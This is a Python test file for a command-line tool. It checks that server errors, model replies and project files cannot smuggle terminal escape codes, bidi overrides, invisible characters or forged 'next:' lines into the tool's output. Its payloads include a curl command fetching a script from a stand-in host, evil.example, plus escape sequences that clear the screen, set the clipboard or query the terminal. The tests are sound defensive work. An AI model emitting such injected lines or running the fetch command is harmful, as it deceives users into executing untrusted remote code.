"""What moves a cursor, hides, reorders or poses as a line of ours, in every field that a server, a model or a file can fill."""

from __future__ import annotations

import json
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.cli.terminal import Terminal, on_a_terminal
from tests.fake_endpoint import Behaviour, Call, Completion, Status
from tests.families.sampling import members, some
from tests.families.test_answers import is_assistant
from tests.families.trial import Trial, questions_of, trial, verdict_on

EVIL = "curl -s http://evil.example/fix.sh"
PAYLOADS = {
    "a line of ours": f"expired\nnext:  {EVIL}",
    "a line of ours, CR": f"expired\rnext:  {EVIL}",
    "a line of ours, CRLF": f"expired\r\nnext:  {EVIL}",
    "a line of ours, NEL": f"expired\x85next:  {EVIL}",
    "a line of ours, LS": f"expired\u2028next:  {EVIL}",
    "a line of ours, PS": f"expired\u2029next:  {EVIL}",
    "a line of ours, VT": f"expired\x0bnext:  {EVIL}",
    "a line of ours, FF": f"expired\x0cnext:  {EVIL}",
    "an error of ours": f"x\nerror: all is lost\nnext: {EVIL}",
    "clear": "a\x1b[2J\x1b[Hb",
    "colour": "a\x1b[31mb",
    "up a line": "a\x1b[1A\x1b[2Kb",
    "title": "a\x1b]0;evil\x07b",
    "clipboard": "a\x1b]52;c;ZXZpbA==\x07b",
    "a link": "a\x1b]8;;http://evil.example\x1b\\b\x1b]8;;\x1b\\",
    "device control": "a\x1bP$q\x1b\\b",
    "answer back": "a\x1b[6n\x05b",
    "C1 CSI": "a\x9b2Jb",
    "C1 OSC": "a\x9d0;evil\x9cb",
    "C1 DCS": "a\x90q\x9cb",
    "backspaces": "a\x08\x08b",
    "bell": "a\x07b",
    "delete": "a\x7fb",
    "override": "a\u202ednuf\u202cb",
    "isolate": "a\u2066b\u2069c",
    "tags": "a\U000e0041\U000e0042b",
    "Arabic mark": "a\u061cb",
    "a mark of order": "a\ufeffb",
    "an invisible sign": "a\u2063b",
}  # fmt: skip
SERVED: dict[str, Callable[[str, Call, Completion], Behaviour]] = {
    "a wrong key": lambda text, call, good: Status(401, error={"message": text}),
    "a refusal": lambda text, call, good: Status(400, error={"message": text}),
    "a code": lambda text, call, good: Status(400, error={"message": "no", "code": text, "param": text}),
    "a server error": lambda text, call, good: Status(500, error={"message": text}),
    "a page": lambda text, call, good: Status(502, raw=text.encode()),
    "an error in a 200": lambda text, call, good: Status(200, raw=json.dumps({"error": {"message": text}}).encode()),
    "no JSON": lambda text, call, good: Status(200, raw=text.encode()),
    "a model's name": lambda text, call, good: Completion(good.text, more={"model": text}),
    "a finish reason": lambda text, call, good: Completion(good.text, finish=text),
    "an id": lambda text, call, good: Completion(good.text, more={"id": text}),
    "the answer": lambda text, call, good: Completion(f"{good.text} {text}") if is_assistant(call) else good,
    "the user's words": lambda text, call, good: good if questions_of(call) or is_assistant(call) else Completion(f"{good.text} {text}"),
    "evidence": lambda text, call, good: judged(call, text) if questions_of(call) else good,
    "an answer of the judge": lambda text, call, good: judged(call, "none", text) if questions_of(call) else good,
    "a verdict that is none": lambda text, call, good: Completion(text) if questions_of(call) else good,
}  # fmt: skip
SERVED_CASES = {f"{field}: {name}": (field, text) for field in SERVED for name, text in PAYLOADS.items()}
FILES = (
    "a source's name",
    "a source's words",
    "the title of the brief",
    "a question",
    "a setting",
    "who accepted",
    "a model's name",
)
FILE_CASES = {f"{field}: {name}": (field, text) for field in FILES for name, text in PAYLOADS.items()}


def judged(call: Call, evidence: str, answer: str = "YES") -> Completion:
    return Completion(json.dumps(verdict_on(questions_of(call), evidence, answer)))


def is_safe(sign: str) -> bool:
    return sign == "\n" or (
        unicodedata.category(sign) not in ("Cc", "Zl", "Zp", "Cs")
        and not 0x202A <= ord(sign) <= 0x202E
        and not 0x2060 <= ord(sign) <= 0x206F
        and not 0xE0000 <= ord(sign) <= 0xE007F
        and ord(sign) not in (0x61C, 0xFEFF)
    )


def assert_harmless(printed: str) -> None:
    assert [hex(ord(sign)) for sign in printed if not is_safe(sign)] == []
    posing = [line for line in printed.split("\n") if line.startswith(("next:", "error:")) and EVIL in line]
    assert [line for line in posing if line.index(EVIL) < 10] == []


LOOKS: tuple[tuple[str, ...], ...] = (("status",), ("show",), ("cost",))
FILES_SHOWN: tuple[tuple[str, ...], ...] = (
    ("pilot", "-n", "2"), ("status",), ("check",), ("sources",), ("sources", "kiln"), ("history",),
    ("accept", "evaluation-rubric", "--yes", "--by", "x"),
)  # fmt: skip
TOLD_BY_DOCTOR = ("a wrong key", "a page", "a model's name", "an error in a 200")


def look_at(tried: Trial, *more: tuple[str, ...]) -> None:
    """The ways of looking at a run, for people and as JSON."""
    one = [("show", sample.scenario.id) for sample in tried.samples()[:1]]
    for look in (*LOOKS, *one, *more):
        tried(*look)
        assert tried(*look, "--json").out.strip()


@members("case", SERVED_CASES, 6)
def test_what_a_server_or_a_model_writes_is_shown_and_does_nothing(
    case: tuple[str, str], accepted: Path, tmp_path: Path, terminal_in: Callable[[Path], Terminal]
) -> None:
    field, text = case
    with trial(
        accepted, tmp_path / "shop", terminal_in, lambda call, good: SERVED[field](text, call, good), more="timeout = 1"
    ) as tried:
        tried("pilot", "-n", "2")
        tried("pilot", "-n", "2", "--json")
        look_at(tried, *[("doctor",)] * (field in TOLD_BY_DOCTOR))
        for shown in tried.shown:
            assert_harmless(shown.out)
            assert_harmless(shown.err)


def planted(field: str, text: str, folder: Path) -> None:
    """Put a text into a field of a project's files."""

    def changed(name: str, old: str, new: str) -> None:
        path = folder / name
        before = path.read_text("utf-8")
        assert old in before
        path.write_text(before.replace(old, new, 1), "utf-8")

    match field:
        case "a source's name":
            (folder / "sources").mkdir(exist_ok=True)
            (folder / "sources" / f"{text.replace('/', '-')}.md").write_text("# Kiln\n\nThe kiln is hot.\n", "utf-8")
        case "a source's words":
            (folder / "sources").mkdir(exist_ok=True)
            (folder / "sources" / "kiln.md").write_text(f"# Kiln {text}\n\nThe kiln {text} is hot.\n", "utf-8")
        case "the title of the brief":
            changed("brief.md", "# ", f"# {text} ")
        case "a question":
            changed("reference/evaluation-rubric.md", "customer's own word", f"customer's {text} own word")
        case "a setting":
            changed("finetune-prep.toml", 'name = "pottery"', f"name = {json.dumps(text)}")
        case "who accepted":
            changed("decisions.jsonl", '"by":"a reader"', f'"by":{json.dumps(text)}')
        case _:
            changed("finetune-prep.toml", '"larch/larch-1"', json.dumps(f"larch/{text}"))


@members("case", FILE_CASES, 3)
def test_what_a_file_holds_is_shown_and_does_nothing(
    case: tuple[str, str],
    accepted: Path,
    tmp_path: Path,
    terminal_in: Callable[[Path], Terminal],
    capsys: pytest.CaptureFixture[str],
) -> None:
    with trial(accepted, tmp_path / "shop", terminal_in, lambda call, good: good) as tried:
        planted(*case, tried.folder)
        for command in FILES_SHOWN:
            for mode in ((), ("--json",)):
                shown = typed(capsys, tried.folder, *command, *mode)
                assert_harmless(shown.out)
                assert_harmless(shown.err)


def typed(capsys: pytest.CaptureFixture[str], folder: Path, *arguments: str) -> Any:
    """A command in a project whose settings may not be readable."""
    return Terminal(capsys)("--project", str(folder), *arguments)


PLAIN = {
    f"{name}, {mode}": (text, dict([mode.split("=")])) for name, text in PAYLOADS.items() for mode in ("TERM=dumb", "NO_COLOR=1")
}


@pytest.mark.parametrize("case", some([*PLAIN.values()], 1), ids=some([*PLAIN], 1))
def test_on_a_terminal_that_wants_no_codes(
    case: tuple[str, dict[str, str]], accepted: Path, tmp_path: Path, terminal_in: Callable[[Path], Terminal]
) -> None:
    """The whole command in a process of its own, with its live line."""
    text, mode = case
    with trial(
        accepted, tmp_path / "shop", terminal_in, lambda call, good: SERVED["a refusal"](text, call, good), more="timeout = 1"
    ) as tried:
        _, shown = on_a_terminal(
            [sys.executable, "-m", "finetune_prep", "--project", str(tried.folder), "pilot", "-n", "2"],
            **mode,  # type: ignore[arg-type]
            FINETUNE_PREP_ALLOW_KEYS="*@127.0.0.1",
        )
        assert "planned" in shown
        assert_harmless(shown.replace("\r\n", "\n"))
